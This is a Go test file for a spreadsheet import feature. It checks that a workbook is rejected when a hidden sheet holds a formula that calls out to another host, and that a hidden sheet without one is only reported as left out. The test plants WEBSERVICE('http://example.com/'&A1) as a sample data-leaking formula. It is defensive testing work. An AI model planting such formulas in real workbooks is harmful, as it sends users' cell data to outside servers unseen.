package app_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/thads/thads/internal/app"
	"github.com/thads/thads/internal/sheet"
	"github.com/thads/thads/internal/thads"
)

// TestImportLooksWhereNobodyReads: a formula that fetches from elsewhere refuses
// the file also where it stands on a hidden sheet, which is otherwise left out and
// told of.
func TestImportLooksWhereNobodyReads(t *testing.T) {
	w := newWorld(t)
	w.province(t)
	ctx := leader(t.Context())
	with := func(fn func(f *excelize.File) error) []byte {
		// An event of one of them makes it a workbook.
		f, err := excelize.OpenReader(bytes.NewReader(register(t, caseRows(1, 3), []sheet.EventRow{eventRow(1, thads.DateOf(2018, 11, 1), 1_000_000)})))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.NewSheet("Khác"); err != nil {
			t.Fatal(err)
		}
		if err := fn(f); err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if err := f.Write(&b); err != nil {
			t.Fatal(err)
		}
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}

	im := w.started(ctx, t, "harmful", with(func(f *excelize.File) error {
		return errors.Join(f.SetSheetVisible("Khác", false), f.SetCellFormula("Khác", "B2", `WEBSERVICE("http://example.com/"&A1)`))
	}))
	problems, err := w.ImportProblems(ctx, im.ID, []sheet.Severity{sheet.Error}, app.PageArgs{})
	if err != nil {
		t.Fatal(err)
	}
	if im.State != app.ImportChecked || !im.Stopped || im.Creates != 0 || len(problems.Items) != 1 || !strings.Contains(problems.Items[0].Value.Text.VI, "WEBSERVICE") {
		t.Errorf("the file is %s, stopped %t, would create %d; problems %v", im.State, im.Stopped, im.Creates, problems.Items)
	}
	if _, err := w.ImportAccept(ctx, app.ImportChange{ID: im.ID, Version: im.Version}, app.AcceptGoodRows); err == nil {
		t.Error("a file that must not come in was accepted")
	}

	im = w.started(ctx, t, "hidden", with(func(f *excelize.File) error { return f.SetSheetVisible("Khác", false) }))
	left, err := w.ImportProblems(ctx, im.ID, []sheet.Severity{sheet.LeftOut}, app.PageArgs{})
	if err != nil {
		t.Fatal(err)
	}
	if im.Creates != 3 || im.Errors != 0 || len(left.Items) == 0 || left.Items[0].Value.Sheet != "Khác" {
		t.Errorf("a file with a hidden sheet would create %d with %d errors, and left out is %v", im.Creates, im.Errors, left.Items)
	}
}
